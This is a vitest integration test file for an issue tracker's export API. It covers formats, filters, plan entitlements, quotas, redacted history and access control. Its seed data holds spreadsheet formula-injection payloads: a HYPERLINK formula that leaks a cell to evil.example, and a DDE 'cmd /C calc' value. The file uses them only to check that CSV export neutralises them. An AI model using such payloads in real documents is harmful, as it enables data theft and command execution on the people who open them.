/* eslint-disable @typescript-eslint/no-explicit-any -- response bodies are whatever the server sent; tests assert on them. */
import { createHash, randomBytes } from 'node:crypto';
import { parseCsv } from '@planning/imports-exports/testing/csv';
import { PLAN_IDS, PLANS, EXPORT_FORMATS } from '@planning/plans';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKey, createUser, addMember, type TestKey } from '../support/auth.js';
import { ADMIN_EMAIL, startCluster, type Cluster, type Mode } from '../support/cluster.js';
import { eventually, login, request, type ApiResponse } from '../support/http.js';

/** Short retention so the suite can watch entries expire (EXPORT_RETENTION_SECONDS). */
const RETENTION_SECONDS = 30;

/**
 * Issue exports and their history through the gateway, in both modes: formats per plan, filters,
 * the artifacts (JSON at top level, CSV with formulas neutralised, Markdown by status, backup),
 * large artifacts in chunks, redacted history with retention, quota exhaustion under a race,
 * audit events for exports and refusals, and who may export.
 */
describe.each<Mode>(['all-in-one', 'distributed'])('exports (%s)', (mode) => {
  let cluster: Cluster;
  let admin: string;
  /** An enterprise workspace with a few tasks, a formula title among them. */
  let ws: { id: string; slug: string };
  let projectId: string;
  let otherProjectId: string;
  let formulaIssueId: string;
  const secretQ = `needle-${randomBytes(4).toString('hex')}`;

  const call = (method: string, path: string, options: { body?: unknown; cookie?: string; token?: string } = {}): Promise<ApiResponse> =>
    request(cluster.baseUrl, method, path, { cookie: admin, ...options });
  /** The raw bytes and headers of an export. */
  const raw = async (query: string, credentials: { cookie?: string; token?: string } = { cookie: admin }) => {
    const headers: Record<string, string> = {};
    if (credentials.cookie) headers.cookie = credentials.cookie;
    if (credentials.token) headers.authorization = `Bearer ${credentials.token}`;
    const res = await fetch(`${cluster.baseUrl}/api/issues/export?${query}`, { headers });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  };
  const workspaceOn = async (plan: string): Promise<{ id: string; slug: string }> => {
    const res = await call('POST', '/api/workspaces', { body: { name: `Export ${plan} ${randomBytes(3).toString('hex')}`, planId: plan } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return { id: res.body.data.id, slug: res.body.data.slug };
  };
  const newProject = async (workspaceId: string, name = 'Exported'): Promise<string> => {
    const res = await call('POST', '/api/projects', { body: { workspaceId, name } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body.data.id;
  };
  const newIssue = async (body: Record<string, unknown>): Promise<any> => {
    const res = await call('POST', '/api/issues', { body });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body.data;
  };
  const history = async (workspaceId: string, extra = ''): Promise<ApiResponse> => call('GET', `/api/issues/export/history?workspaceId=${workspaceId}${extra}`);
  const auditEvents = async (workspaceId: string, type: string): Promise<any[]> =>
    (await call('GET', `/api/admin/audit-events?workspaceId=${workspaceId}&type=${type}&limit=200`)).body.data ?? [];

  beforeAll(async () => {
    cluster = await startCluster(mode, {
      // The quota race below runs 25 exports of one workspace at once; the per-workspace
      // concurrency cap (default 2, tested in exports-core.test.ts) would refuse most of them.
      env: { EXPORT_RETENTION_SECONDS: String(RETENTION_SECONDS), EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '50' },
    });
    admin = await login(cluster.baseUrl, ADMIN_EMAIL, cluster.adminPassword);
    ws = await workspaceOn('enterprise');
    projectId = await newProject(ws.id, 'Exported');
    otherProjectId = await newProject(ws.id, 'Other');
    // An agent exists once a key names it.
    await createKey(cluster.baseUrl, admin, ws.id, 'enterprise', ['issues:read'], 'exporter-bot');
    const dep = await newIssue({ projectId, title: 'Groundwork', status: 'done', priority: 'high', labels: ['infra'] });
    formulaIssueId = (
      await newIssue({
        projectId,
        title: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        description: `+cmd|' /C calc'!A0 and ${secretQ}, "quoted", with a comma\nand a line break`,
        priority: 'urgent',
        labels: ['feature-x', 'infra'],
        dueDate: '2030-01-31',
        estimate: 5,
        dependencies: [dep.id],
        agent: { assignedAgentId: 'exporter-bot' },
      })
    ).id;
    await newIssue({ projectId, title: '@mention starts a formula too', status: 'backlog', priority: 'low' });
    await newIssue({ projectId: otherProjectId, title: 'In the other project', status: 'in-progress', priority: 'medium' });
  }, 180_000);

  afterAll(async () => {
    await cluster?.stop();
  });

  it('exports: JSON artifact at top level with schema id, counts and the fields an import reads back', async () => {
    const res = await raw(`workspaceSlug=${ws.slug}&format=json&plan=enterprise`);
    expect(res.status, res.bytes.toString()).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${ws.slug}-issues-\\d{8}-\\d{6}\\.json"$`));
    const body = JSON.parse(res.bytes.toString('utf8'));
    expect(body.data).toBeUndefined();
    expect(body).toMatchObject({ schemaId: 'service.issue-export', workspace: { slug: ws.slug }, issueCount: 4 });
    expect(body.schemaVersion).toMatch(/^\d{4}-\d{2}-\d{2}\.issue-export\.v1$/);
    expect(Date.parse(body.exportedAt)).not.toBeNaN();
    expect(body.issues).toHaveLength(4);
    const formula = body.issues.find((i: any) => i.id === formulaIssueId);
    expect(formula).toMatchObject({
      workspaceId: ws.id,
      projectId,
      status: 'ready',
      priority: 'urgent',
      labels: ['feature-x', 'infra'],
      dueDate: '2030-01-31',
      estimate: 5,
      agent: { assignedAgentId: 'exporter-bot' },
    });
    expect(formula.title).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click me")');
    expect(formula.dependencies).toHaveLength(1);
    expect(typeof formula.updatedAt).toBe('string');
    expect(typeof formula.description).toBe('string');
    // Headers carry the hash and size the history entry records.
    expect(res.headers.get('x-export-sha256')).toBe(createHash('sha256').update(res.bytes).digest('hex'));
    expect(Number(res.headers.get('content-length'))).toBe(res.bytes.length);
    // workspaceId names the workspace as well; both must agree.
    const byId = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json`);
    expect(byId.status).toBe(200);
    expect(byId.body.issues).toHaveLength(4);
  });

  it('exports: filters of the issue search narrow the export', async () => {
    const byProject = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&projectId=${otherProjectId}`);
    expect(byProject.body.issues.map((i: any) => i.title)).toEqual(['In the other project']);
    const byStatus = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&status=backlog,done`);
    expect(byStatus.body.issues.map((i: any) => i.status).sort()).toEqual(['backlog', 'done']);
    const byLabel = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&label=feature-x`);
    expect(byLabel.body.issues.map((i: any) => i.id)).toEqual([formulaIssueId]);
    const byQ = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&q=${secretQ}&priority=urgent&assignedAgentId=exporter-bot`);
    expect(byQ.body).toMatchObject({ issueCount: 1, issues: [{ id: formulaIssueId }] });
    const none = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&status=cancelled`);
    expect(none.body).toMatchObject({ issueCount: 0, issues: [] });
  });

  it('exports: CSV parses with a header row and neutralised formula cells', async () => {
    const res = await raw(`workspaceSlug=${ws.slug}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/\.csv"$/);
    const text = res.bytes.toString('utf8');
    expect(text).toContain('\r\n');
    const rows = parseCsv(text);
    const header = rows[0]!;
    expect(header).toEqual(expect.arrayContaining(['id', 'title', 'status', 'projectId', 'priority', 'labels', 'description', 'updatedAt']));
    expect(rows).toHaveLength(5);
    const col = (name: string) => header.indexOf(name);
    const formula = rows.find((r) => r[col('id')] === formulaIssueId)!;
    expect(formula[col('title')]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
    expect(formula[col('description')]).toBe(`'+cmd|' /C calc'!A0 and ${secretQ}, "quoted", with a comma\nand a line break`);
    expect(formula[col('labels')]).toBe('feature-x;infra');
    // List cells are always quoted, so a spreadsheet splitting on ';' keeps them one cell.
    expect(text).toContain('"feature-x;infra"');
    expect(formula[col('estimate')]).toBe('5');
    expect(rows.find((r) => r[col('title')]?.includes('@mention'))![col('title')]).toBe("'@mention starts a formula too");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('exports: Markdown groups issues by status', async () => {
    const res = await raw(`workspaceId=${ws.id}&format=markdown`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/markdown/);
    const text = res.bytes.toString('utf8');
    const headings = text.split('\n').filter((l) => l.startsWith('## '));
    expect(headings).toEqual(['## Backlog (1)', '## Ready (1)', '## In progress (1)', '## Done (1)']);
    const ready = text.slice(text.indexOf('## Ready'), text.indexOf('## In progress'));
    expect(ready).toContain(formulaIssueId);
    expect(text.slice(text.indexOf('## Done'))).toContain('Groundwork');
  });

  it('exports: backup holds the whole workspace and is a service.issue-export envelope', async () => {
    const program = await call('POST', '/api/programs', { body: { workspaceId: ws.id, name: 'Backup program' } });
    expect(program.status).toBe(201);
    const initiative = await call('POST', '/api/initiatives', { body: { programId: program.body.data.id, name: 'Backup initiative' } });
    expect(initiative.status).toBe(201);
    const milestone = await call('POST', '/api/milestones', { body: { projectId, name: 'Backup milestone' } });
    expect(milestone.status).toBe(201);
    expect((await call('POST', `/api/issues/${formulaIssueId}/comments`, { body: { body: 'A comment' } })).status).toBe(201);
    expect((await call('POST', `/api/issues/${formulaIssueId}/time-entries`, { body: { minutes: 30, note: 'work' } })).status).toBe(201);
    expect((await call('POST', `/api/issues/${formulaIssueId}/evidence`, { body: { kind: 'note', title: 'Proof', body: 'done' } })).status).toBe(201);
    const res = await raw(`workspaceSlug=${ws.slug}&format=backup&plan=enterprise`);
    expect(res.status, res.bytes.toString()).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/\.backup\.json"$/);
    const body = JSON.parse(res.bytes.toString('utf8'));
    expect(body).toMatchObject({ schemaId: 'service.issue-export', kind: 'backup', workspace: { slug: ws.slug, planId: 'enterprise' } });
    expect(body.counts).toMatchObject({ projects: 2, milestones: 1, programs: 1, initiatives: 1, issues: 4, comments: 1, timeEntries: 1, evidence: 1 });
    expect(body.projects.map((p: any) => p.id).sort()).toEqual([projectId, otherProjectId].sort());
    expect(body.milestones[0]).toMatchObject({ id: milestone.body.data.id, projectId });
    expect(body.programs[0]).toMatchObject({ id: program.body.data.id });
    expect(body.initiatives[0]).toMatchObject({ id: initiative.body.data.id, programId: program.body.data.id });
    const withRecords = body.issues.find((i: any) => i.id === formulaIssueId);
    expect(withRecords).toMatchObject({ workspaceId: ws.id, projectId, title: expect.any(String) });
    expect(withRecords.comments).toEqual([expect.objectContaining({ body: 'A comment' })]);
    expect(withRecords.timeEntries).toEqual([expect.objectContaining({ minutes: 30 })]);
    expect(withRecords.evidence).toEqual([expect.objectContaining({ kind: 'note', title: 'Proof' })]);
    // A backup is the whole workspace: it takes no filters.
    const filtered = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=backup&status=ready`);
    expect(filtered.status).toBe(400);
    expect(filtered.body.error.code).toBe('invalid-input');
    // Nor an order (it is always in creation order).
    const sorted = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=backup&sort=title`);
    expect(sorted.status).toBe(400);
    expect(sorted.body.error).toMatchObject({ code: 'invalid-input', field: 'format' });
  });

  it('exports: a backup re-imports through the import preview and commit', async () => {
    const res = await raw(`workspaceId=${ws.id}&format=backup`);
    expect(res.status).toBe(200);
    const backup = JSON.parse(res.bytes.toString('utf8'));
    const key = () => `k-${randomBytes(6).toString('hex')}`;
    const preview = await request(cluster.baseUrl, 'POST', '/api/imports/preview', {
      cookie: admin,
      headers: { 'idempotency-key': key() },
      body: { plan: 'enterprise', format: 'json', payload: backup, workspaceId: ws.id },
    });
    expect(preview.status, JSON.stringify(preview.body)).toBe(200);
    expect(preview.body.data).toMatchObject({
      status: 'ready',
      source: { schema: { schemaVersion: backup.schemaVersion, status: 'compatible' } },
      summary: { totalRows: backup.issues.length, creates: 0, conflicts: 0, errors: 0 },
    });
    const commit = await request(cluster.baseUrl, 'POST', '/api/imports/commit', {
      cookie: admin,
      headers: { 'idempotency-key': key() },
      body: { previewId: preview.body.data.id },
    });
    expect(commit.status, JSON.stringify(commit.body)).toBe(200);
    expect(commit.body.data).toMatchObject({ status: 'committed', errors: [], summary: { created: 0 } });
    const { updated, skipped } = commit.body.data.summary;
    expect(updated + skipped).toBe(backup.issues.length);
    // The tasks are as they were.
    const after = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=json&sort=createdAt&direction=asc`);
    expect(after.body.issues.map((i: any) => [i.id, i.title, i.status, i.priority, i.labels])).toEqual(
      backup.issues.map((i: any) => [i.id, i.title, i.status, i.priority, i.labels]),
    );
  });

  it('exports: each format per plan (entitled 200, otherwise 403 not-entitled)', async () => {
    for (const plan of PLAN_IDS) {
      const target = await workspaceOn(plan);
      const project = await newProject(target.id);
      await newIssue({ projectId: project, title: `Task on ${plan}` });
      for (const format of EXPORT_FORMATS) {
        const res = await call('GET', `/api/issues/export?workspaceSlug=${target.slug}&format=${format}&plan=${plan}`);
        if (PLANS[plan].exportFormats.includes(format)) {
          expect(res.status, `${plan} ${format}: ${JSON.stringify(res.body)}`).toBe(200);
        } else {
          expect(res.status, `${plan} ${format}`).toBe(403);
          expect(res.body.error.code).toBe('not-entitled');
        }
      }
    }
  }, 120_000);

  it('exports: the plan parameter must be the workspace plan; bad input is 400, unknown workspaces 404', async () => {
    const hobby = await workspaceOn('hobbyist');
    // Claiming a higher plan does not unlock markdown.
    const claimed = await call('GET', `/api/issues/export?workspaceId=${hobby.id}&format=markdown&plan=enterprise`);
    expect(claimed.status).toBe(400);
    expect(claimed.body.error).toMatchObject({ code: 'invalid-input', field: 'plan' });
    const markdown = await call('GET', `/api/issues/export?workspaceId=${hobby.id}&format=markdown&plan=hobbyist`);
    expect(markdown.status).toBe(403);
    expect(markdown.body.error.code).toBe('not-entitled');
    const cases: [string, number, string][] = [
      [`workspaceId=${ws.id}&format=pdf`, 400, 'invalid-input'],
      [`workspaceId=${ws.id}`, 400, 'invalid-input'],
      ['format=json', 400, 'invalid-input'],
      [`workspaceId=${ws.id}&workspaceSlug=${hobby.slug}&format=json`, 400, 'invalid-input'],
      [`workspaceId=${ws.id}&format=json&plan=platinum`, 400, 'invalid-input'],
      [`workspaceId=${ws.id}&format=json&status=almost-done`, 400, 'invalid-input'],
      [`workspaceId=${ws.id}&format=json&bogus=1`, 400, 'invalid-input'],
      [`workspaceSlug=no-such-workspace-${randomBytes(3).toString('hex')}&format=json`, 404, 'not-found'],
      ['workspaceId=ws_01NOSUCHWORKSPACE00000000&format=json', 404, 'not-found'],
      [`workspaceSlug=Not_A_Slug&format=json`, 400, 'invalid-input'],
    ];
    for (const [query, status, code] of cases) {
      const res = await call('GET', `/api/issues/export?${query}`);
      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(status);
      expect(res.body.error.code, query).toBe(code);
    }
    const sameSlugAndId = await call('GET', `/api/issues/export?workspaceId=${hobby.id}&workspaceSlug=${hobby.slug}&format=json`);
    expect(sameSlugAndId.status).toBe(200);
    // HEAD is not an export: it would meter and record one only to drop the body.
    const head = await fetch(`${cluster.baseUrl}/api/issues/export?workspaceId=${hobby.id}&format=json`, { method: 'HEAD', headers: { cookie: admin } });
    expect(head.status).toBe(404);
    expect((await history(hobby.id)).body.data.entries).toHaveLength(1);
  });

  it('exports: history entries are redacted, carry retention and audit event ids, and page', async () => {
    const target = await workspaceOn('pro');
    const project = await newProject(target.id);
    await createKey(cluster.baseUrl, admin, target.id, 'pro', ['issues:read'], 'history-bot');
    const secretTitle = `Secret title ${randomBytes(4).toString('hex')}`;
    await newIssue({ projectId: project, title: secretTitle, labels: ['confidential-label'], agent: { assignedAgentId: 'history-bot' } });
    const exported = await raw(
      `workspaceId=${target.id}&format=csv&projectId=${project}&q=${secretQ}&label=confidential-label&assignedAgentId=history-bot&status=ready&sort=title`,
    );
    expect(exported.status).toBe(200);
    for (const format of ['json', 'markdown']) expect((await raw(`workspaceSlug=${target.slug}&format=${format}`)).status).toBe(200);
    const res = await history(target.id);
    expect(res.status).toBe(200);
    expect(res.body.page).toEqual({ nextCursor: null });
    const entries = res.body.data.entries;
    expect(entries.map((e: any) => e.format)).toEqual(['markdown', 'json', 'csv']);
    const csv = entries[2];
    expect(csv).toMatchObject({
      id: exported.headers.get('x-export-id'),
      format: 'csv',
      redacted: true,
      retentionDays: RETENTION_SECONDS / 86_400,
      schemaVersion: expect.stringMatching(/\.issue-export\.v1$/),
      sha256: createHash('sha256').update(exported.bytes).digest('hex'),
      bytes: exported.bytes.length,
      issueCount: 0,
    });
    expect(Date.parse(csv.expiresAt) - Date.parse(csv.createdAt)).toBe(RETENTION_SECONDS * 1_000);
    expect(csv.filters.projectId[0]).toMatch(/^h:[0-9a-f]{12}$/);
    expect(csv.filters.label[0]).toMatch(/^h:[0-9a-f]{12}$/);
    expect(csv.filters.assignedAgentId[0]).toMatch(/^h:[0-9a-f]{12}$/);
    expect(csv.filters.q).toEqual(['[redacted]']);
    expect(csv.filters.status).toEqual(['ready']);
    expect(csv.auditEventIds).toHaveLength(1);
    // No raw filter id, label, agent id, search text or title anywhere in the history.
    const text = JSON.stringify(res.body);
    for (const raw of [project, secretQ, 'confidential-label', 'history-bot', secretTitle]) expect(text).not.toContain(raw);
    // Pages newest first.
    const first = await history(target.id, '&limit=2');
    expect(first.body.data.entries.map((e: any) => e.format)).toEqual(['markdown', 'json']);
    expect(first.body.page.nextCursor).toEqual(expect.any(String));
    const second = await history(target.id, `&limit=2&cursor=${encodeURIComponent(first.body.page.nextCursor)}`);
    expect(second.body.data.entries.map((e: any) => e.format)).toEqual(['csv']);
    expect(second.body.page.nextCursor).toBeNull();
    // The slug names the workspace too.
    expect((await call('GET', `/api/issues/export/history?workspaceSlug=${target.slug}`)).body.data.entries).toHaveLength(3);
    expect((await history(target.id, '&limit=0')).status).toBe(400);
    expect((await history(target.id, '&cursor=%25%25%25')).status).toBe(400);
    // Audit: the entry's event is an allowed export.created with ids only.
    const events = await eventually(async () => {
      const found = await auditEvents(target.id, 'export.created');
      return found.length === 3 ? found : undefined;
    }, 20_000, 'export.created audit events');
    const event = events.find((e: any) => e.id === csv.auditEventIds[0]);
    expect(event).toMatchObject({ type: 'export.created', workspaceId: target.id, outcome: 'allowed', subject: { type: 'export', id: csv.id } });
    expect(JSON.stringify(events)).not.toContain(secretTitle);
  });

  it('exports: refusals are audited as denials with their reason', async () => {
    const target = await workspaceOn('beginner');
    const refused = await call('GET', `/api/issues/export?workspaceId=${target.id}&format=csv`);
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('not-entitled');
    const denied = await eventually(async () => {
      const found = await auditEvents(target.id, 'export.denied');
      return found.length > 0 ? found : undefined;
    }, 20_000, 'export.denied audit event');
    expect(denied[0]).toMatchObject({ type: 'export.denied', workspaceId: target.id, outcome: 'denied', reason: 'not-entitled', subject: { type: 'export' } });
    // A refusal writes no history entry.
    expect((await history(target.id)).body.data.entries).toEqual([]);
  });

  it('exports: the monthly quota holds under concurrent exports, then 403 quota-exceeded is audited', async () => {
    const target = await workspaceOn('beginner');
    const limit = PLANS.beginner.quotas.exports!;
    const attempts = limit + 5;
    const results = await Promise.all(Array.from({ length: attempts }, () => call('GET', `/api/issues/export?workspaceId=${target.id}&format=json`)));
    const ok = results.filter((r) => r.status === 200);
    const refused = results.filter((r) => r.status === 403);
    expect(ok).toHaveLength(limit);
    expect(refused).toHaveLength(attempts - limit);
    for (const r of refused) {
      expect(r.body.error.code).toBe('quota-exceeded');
      expect(r.body.error.quota).toMatchObject({ kind: 'exports', limit, used: limit, resetsAt: expect.any(String) });
    }
    const usage = await call('GET', `/api/billing/usage?workspaceId=${target.id}`);
    expect(usage.body.data.quotas.find((q: any) => q.kind === 'exports')).toMatchObject({ limit, used: limit });
    expect((await history(target.id)).body.data.entries).toHaveLength(limit);
    await eventually(async () => {
      const found = await auditEvents(target.id, 'export.denied');
      return found.filter((e: any) => e.reason === 'quota-exceeded').length === attempts - limit;
    }, 20_000, 'quota denials audited');
  }, 120_000);

  it('exports: a failed export gives its quota back', async () => {
    const target = await workspaceOn('beginner');
    const used = async (): Promise<number> =>
      (await call('GET', `/api/billing/usage?workspaceId=${target.id}`)).body.data.quotas.find((q: any) => q.kind === 'exports').used;
    const before = await used();
    // Passes the gateway's schema, fails in the issues service after the quota was taken.
    const bad = await call('GET', `/api/issues/export?workspaceId=${target.id}&format=json&label=${'l'.repeat(60)}`);
    expect(bad.status, JSON.stringify(bad.body)).toBe(400);
    expect(bad.body.error).toMatchObject({ code: 'invalid-input', field: 'label' });
    expect(await used()).toBe(before);
    expect((await history(target.id)).body.data.entries).toEqual([]);
    expect((await call('GET', `/api/issues/export?workspaceId=${target.id}&format=json`)).status).toBe(200);
    expect(await used()).toBe(before + 1);
  });

  it('exports: who may export (admin session, admin-scoped token of the workspace)', async () => {
    const target = await workspaceOn('enterprise');
    const other = await workspaceOn('enterprise');
    const adminToken: TestKey = await createKey(cluster.baseUrl, admin, target.id, 'enterprise', ['admin']);
    const readToken = await createKey(cluster.baseUrl, admin, target.id, 'enterprise', ['issues:read', 'issues:write', 'projects:read']);
    const otherToken = await createKey(cluster.baseUrl, admin, other.id, 'enterprise', ['admin', 'issues:read']);
    const member = await createUser(cluster.baseUrl, admin, 'export-member');
    await addMember(cluster.baseUrl, admin, target.id, member.id, 'member');
    const wsAdmin = await createUser(cluster.baseUrl, admin, 'export-admin');
    await addMember(cluster.baseUrl, admin, target.id, wsAdmin.id, 'admin');
    const path = `/api/issues/export?workspaceSlug=${target.slug}&format=json`;
    expect((await request(cluster.baseUrl, 'GET', path, { token: adminToken.token })).status).toBe(200);
    expect((await request(cluster.baseUrl, 'GET', path, { cookie: wsAdmin.cookie })).status).toBe(200);
    expect((await request(cluster.baseUrl, 'GET', path, { token: readToken.token })).status).toBe(403);
    expect((await request(cluster.baseUrl, 'GET', path, { cookie: member.cookie })).status).toBe(403);
    expect((await request(cluster.baseUrl, 'GET', path, {})).status).toBe(401);
    // A token of another workspace: 404, by slug and by id, for exports and history.
    expect((await request(cluster.baseUrl, 'GET', path, { token: otherToken.token })).status).toBe(404);
    expect((await request(cluster.baseUrl, 'GET', `/api/issues/export?workspaceId=${target.id}&format=json`, { token: otherToken.token })).status).toBe(404);
    expect((await request(cluster.baseUrl, 'GET', `/api/issues/export/history?workspaceSlug=${target.slug}`, { token: otherToken.token })).status).toBe(404);
    // Naming its own workspace by id and another by slug tells it nothing either: the answer is
    // that of a slug nobody has (not a 400 "they differ", which would confirm the slug exists).
    const unknownSlug = `no-such-workspace-${randomBytes(3).toString('hex')}`;
    for (const base of ['/api/issues/export?format=json&', '/api/issues/export/history?']) {
      const known = await request(cluster.baseUrl, 'GET', `${base}workspaceId=${other.id}&workspaceSlug=${target.slug}`, { token: otherToken.token });
      const unknown = await request(cluster.baseUrl, 'GET', `${base}workspaceId=${other.id}&workspaceSlug=${unknownSlug}`, { token: otherToken.token });
      expect(known.status, base).toBe(404);
      expect([known.status, known.body.error.code]).toEqual([unknown.status, unknown.body.error.code]);
    }
    const own = await request(cluster.baseUrl, 'GET', `/api/issues/export/history?workspaceId=${target.id}`, { token: adminToken.token });
    expect(own.status).toBe(200);
    expect(own.body.data.entries).toHaveLength(2);
    expect((await request(cluster.baseUrl, 'GET', `/api/issues/export/history?workspaceId=${target.id}`, { cookie: member.cookie })).status).toBe(403);
  });

  it('exports: a large artifact streams in chunks with the recorded hash and size', async () => {
    const target = await workspaceOn('enterprise');
    const project = await newProject(target.id);
    const description = 'x'.repeat(19_000);
    for (let i = 0; i < 70; i += 10) {
      await Promise.all(Array.from({ length: 10 }, (_, j) => newIssue({ projectId: project, title: `Big ${i + j}`, description })));
    }
    const res = await raw(`workspaceId=${target.id}&format=json`);
    expect(res.status).toBe(200);
    expect(res.bytes.length).toBeGreaterThan(1_048_576);
    expect(JSON.parse(res.bytes.toString('utf8')).issues).toHaveLength(70);
    const entry = (await history(target.id)).body.data.entries[0];
    expect(entry).toMatchObject({ bytes: res.bytes.length, sha256: createHash('sha256').update(res.bytes).digest('hex'), issueCount: 70 });
  }, 120_000);

  it('exports: entries past retention disappear from the history', async () => {
    const target = await workspaceOn('hobbyist');
    expect((await raw(`workspaceId=${target.id}&format=json`)).status).toBe(200);
    const entry = (await history(target.id)).body.data.entries[0];
    expect(entry).toBeDefined();
    const wait = Date.parse(entry.expiresAt) - Date.now();
    expect(wait).toBeGreaterThan(0);
    await new Promise((r) => setTimeout(r, wait + 200));
    expect((await history(target.id)).body.data.entries).toEqual([]);
  }, 120_000);
});
